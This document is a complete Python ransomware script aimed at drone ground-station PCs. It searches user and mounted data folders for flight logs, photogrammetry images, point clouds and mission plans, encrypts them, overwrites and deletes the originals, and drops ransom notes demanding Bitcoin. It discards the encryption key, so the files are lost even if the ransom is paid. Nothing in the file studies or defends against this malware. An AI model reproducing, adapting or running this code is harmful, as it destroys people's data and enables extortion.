#!/usr/bin/env python3
""""Seal" survey-drone datasets: walk every data root on the ground-station
PC, encrypt flight logs, photogrammetry images and point clouds in place, and
leave instructions for obtaining the unseal key.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("sealer")
TARGET_EXT = {".ulg", ".tlog", ".bin", ".bag", ".mcap", ".las", ".laz",
              ".tif", ".jpg", ".dng", ".plan", ".kmz", ".csv"}
SKIP_DIRS = {".git", "__pycache__", "node_modules", ".cache"}
NOTE_NAME = "HOW_TO_RECOVER_SURVEY_DATA.txt"
NOTE = """Your survey data, flight logs and mission plans were sealed.
Send 0.8 BTC to bc1q9w3k7l0x5v2n8s4d6f0g2h4j6k8l0m2n4p6r8t and e-mail the ID
below to recover@sealed-ops.cc to receive the unseal key.
ID: {ident}
"""


def data_roots(extra):
    home = Path.home()
    roots = [home / "Documents", home / "Desktop", home / "QGroundControl",
             home / "survey_data", Path("/mnt/data"), Path("/media")]
    roots += [Path(p) for p in extra]
    return [r for r in roots if r.is_dir()]


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_EXT and not name.endswith(".sealed"):
                yield p


def seal_file(path, cipher):
    data = path.read_bytes()
    token = cipher.encrypt(data)
    out = path.with_name(path.name + ".sealed")
    out.write_bytes(token)
    # overwrite then remove the original so it can't be undeleted easily
    with open(path, "r+b") as fh:
        fh.write(os.urandom(min(len(data), 1 << 20)))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return len(data)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--root", action="append", default=[])
    ap.add_argument("--limit-mb", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.ERROR)

    key = Fernet.generate_key()
    cipher = Fernet(key)
    ident = key[:12].hex()
    sealed_total, dirs_touched = 0, set()
    limit = args.limit_mb * 1024 * 1024

    for root in data_roots(args.root):
        for p in candidates(root):
            try:
                sealed_total += seal_file(p, cipher)
                dirs_touched.add(p.parent)
            except (OSError, PermissionError) as exc:
                log.debug("skip %s: %s", p, exc)
            if limit and sealed_total > limit:
                break

    for d in dirs_touched:
        try:
            (d / NOTE_NAME).write_text(NOTE.format(ident=ident))
        except OSError:
            pass
    del key, cipher
    return 0


if __name__ == "__main__":
    sys.exit(main())
